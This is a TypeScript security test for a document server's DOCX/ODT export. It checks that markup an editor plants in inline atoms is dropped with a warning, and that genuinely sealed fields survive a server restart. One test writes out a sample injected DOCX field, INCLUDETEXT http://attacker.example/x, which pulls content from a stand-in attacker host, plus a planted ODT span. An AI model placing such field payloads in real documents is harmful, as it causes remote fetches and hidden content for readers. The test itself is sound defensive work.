import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { readZip } from '../../connectors/formats/safeZip.ts';
import { writeDocx } from '../../connectors/microsoft/docx/index.ts';
import { sealAtom } from '../../connectors/model/atomSeal.ts';
import { connectClient, type TestClient } from '../helpers/clients.ts';
import { type ServerProcess, startServerProcess, tempDataDir } from '../helpers/serverProcess.ts';
import { portalToken, TEST_SECRET } from '../helpers/tokens.ts';

const env = {
  DOCBRIDGE_DATA_DIR: tempDataDir(),
  DOCBRIDGE_JWT_SECRET: TEST_SECRET,
  DOCBRIDGE_MASTER_KEY: randomBytes(32).toString('base64'),
};
let server: ServerProcess;
const clients: TestClient[] = [];

beforeAll(async () => {
  server = await startServerProcess(env);
});
afterAll(async () => {
  for (const client of clients) client.destroy();
  await server?.stop();
});

const editorToken = () => portalToken({ docs: { 'dept-a/*': 'edit' } });

/** What an editor can do with a raw Yjs client: write any node with any attributes into the document. */
async function plant(doc: string, atoms: Record<string, string>[]): Promise<void> {
  const client = connectClient(server.wsUrl, doc, await editorToken());
  clients.push(client);
  await client.synced;
  const fragment = client.doc.getXmlFragment('default');
  client.doc.transact(() => {
    const paragraph = new Y.XmlElement('paragraph');
    const text = new Y.XmlText();
    text.insert(0, 'Visible text ');
    paragraph.insert(0, [text]);
    for (const attrs of atoms) {
      const atom = new Y.XmlElement('atomInline');
      for (const [key, value] of Object.entries(attrs)) atom.setAttribute(key, value);
      paragraph.insert(paragraph.length, [atom]);
    }
    fragment.insert(fragment.length, [paragraph]);
  });
  await client.saved();
}

async function exportAs(doc: string, format: 'docx' | 'odt') {
  const res = await fetch(`${server.url}/api/documents/${doc}/export?format=${format}`, {
    headers: { Authorization: `Bearer ${await editorToken()}` },
  });
  expect(res.status).toBe(200);
  const files = readZip(new Uint8Array(await res.arrayBuffer()));
  const main = files.get(format === 'docx' ? 'word/document.xml' : 'content.xml')!;
  return { xml: new TextDecoder().decode(main), warnings: res.headers.get('docbridge-warnings') ?? '' };
}

describe('atom payloads on export (finding: an editor could plant markup seen only in the exported file)', () => {
  it('writes an atom an editor made (no stamp, or a forged one) as its visible label, with a warning', async () => {
    const doc = `dept-a/planted-${randomBytes(4).toString('hex')}`;
    const docxPayload =
      '<w:r><w:t>PLANTED-TEXT</w:t></w:r><w:fldSimple w:instr=" INCLUDETEXT http://attacker.example/x "/>';
    await plant(doc, [
      { kind: 'field', label: 'Total', source: 'docx', payload: docxPayload },
      { kind: 'field', label: 'Forged', source: 'docx', payload: docxPayload, seal: 'A'.repeat(43) },
      { kind: 'note', label: 'Memo', source: 'odt', payload: '<text:span>PLANTED-ODT</text:span>' },
    ]);
    const docx = await exportAs(doc, 'docx');
    expect(docx.xml).toContain('Visible text');
    expect(docx.xml).toContain('Total');
    expect(docx.xml).toContain('Forged');
    expect(docx.xml).not.toContain('PLANTED-TEXT');
    expect(docx.xml).not.toContain('INCLUDETEXT');
    expect(docx.warnings).toContain('DOCX_ATOM_UNVERIFIED');

    const odt = await exportAs(doc, 'odt');
    expect(odt.xml).toContain('Memo');
    expect(odt.xml).not.toContain('PLANTED-ODT');
    expect(odt.warnings).toContain('ODT_ATOM_UNVERIFIED');
  });

  it("writes back what the server's own reader made, also after a restart", async () => {
    // A .docx holding a field (made here with a stamp of this test process, so writeDocx writes it).
    const payload =
      '<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM&quot; "><w:r><w:t>5 December</w:t></w:r></w:fldSimple>';
    const file = writeDocx({
      type: 'doc',
      content: [
        {
          type: 'paragraph',
          content: [
            { type: 'text', text: 'Date: ' },
            {
              type: 'atomInline',
              attrs: {
                kind: 'field',
                label: '5 December',
                source: 'docx',
                payload,
                seal: sealAtom('docx', payload),
              },
            },
          ],
        },
      ],
    }).bytes;
    const imported = await fetch(`${server.url}/api/documents/import?filename=dated.docx`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${await editorToken()}`, 'Content-Type': 'application/octet-stream' },
      body: file as Uint8Array<ArrayBuffer>,
    });
    expect(imported.status).toBe(201);
    const { name } = (await imported.json()) as { name: string };

    const first = await exportAs(name, 'docx');
    expect(first.xml).toContain('w:instr=" DATE');
    expect(first.warnings).not.toContain('DOCX_ATOM_UNVERIFIED');

    // Stamps are keyed from the master key, not from the process: a restart keeps them valid.
    await server.stop();
    server = await startServerProcess(env);
    const again = await exportAs(name, 'docx');
    expect(again.xml).toContain('w:instr=" DATE');
    expect(again.warnings).not.toContain('DOCX_ATOM_UNVERIFIED');
  });
});
